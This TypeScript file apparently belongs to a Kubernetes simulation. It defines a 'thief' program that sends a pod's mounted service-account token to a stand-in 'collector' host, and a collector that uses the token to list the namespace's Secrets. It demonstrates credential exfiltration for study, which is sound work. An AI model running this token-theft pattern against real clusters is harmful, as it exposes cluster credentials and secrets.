import type { Json } from '../../kernel/json.ts'
import { CREDENTIALS, mountedToken } from './mounted-token.ts'
import type { Program, ProgramEnvironment } from './program.ts'

const PORT = 80
const USE_EVERY = 10_000

/**
 * What malicious code in a pod does: it copies the mounted token out, to the collector at $COLLECTOR (default
 * http://collector), once. What the collector does with it is another matter.
 */
export const thief: Program = {
  run(environment) {
    const { env, now, state } = environment
    if (state === 'done') return { state }
    const token = mountedToken(environment)
    if (token === undefined) return { state: null, printed: [`nothing to steal: there is no ${CREDENTIALS}/token`] }
    const url = env['COLLECTOR'] || 'http://collector'
    const answer = environment.fetch({ method: 'POST', url, headers: { 'user-agent': 'thief' }, body: token })
    if ('error' in answer) return { state: null, printed: [`could not reach ${url}: ${answer.error}`], wakeAt: now + USE_EVERY }
    return { state: 'done', printed: [`copied a token to ${url}`] }
  },
  onTerm: { after: 50, exitCode: 0 },
}

/** Where stolen tokens arrive: it tries the last one every 10 seconds for the Secrets of its owner's namespace, and says what it got. */
export const collector: Program = {
  run(environment) {
    const { now, state } = environment
    const { token } = (state ?? {}) as { token?: string }
    if (token === undefined) return { state: {}, wakeAt: now + USE_EVERY, printed: state === null ? ['waiting for tokens'] : [] }
    return { state, wakeAt: now + USE_EVERY, printed: [tryToken(token, environment)] }
  },
  onTerm: { after: 50, exitCode: 0 },
  server: {
    port: PORT,
    serve: ({ body = '' }) => ({
      response: { status: 204, headers: {}, body: '' },
      state: { token: body.trim() } as Json,
      printed: ['a token has arrived'],
    }),
  },
}

function tryToken(token: string, { request }: ProgramEnvironment): string {
  const review = request('POST', '/apis/authentication.k8s.io/v1/selfsubjectreviews', token, {
    apiVersion: 'authentication.k8s.io/v1',
    kind: 'SelfSubjectReview',
  })
  const { username } = ((review.body as { status?: { userInfo?: { username?: string } } } | null)?.status?.userInfo ?? {}) as { username?: string }
  if (review.status >= 400 || username === undefined)
    return `the token is worth nothing: ${review.status} ${(review.body as { message?: string } | null)?.message ?? ''}`
  const namespace = username.split(':')[2] ?? 'default'
  const { status, body } = request('GET', `/api/v1/namespaces/${namespace}/secrets`, token)
  const { items, message } = (body ?? {}) as { items?: readonly unknown[]; message?: string }
  return `as ${username}: GET secrets in ${namespace}: ${status} ${status === 200 ? `OK, ${items?.length ?? 0} secrets` : (message ?? '')}`
}
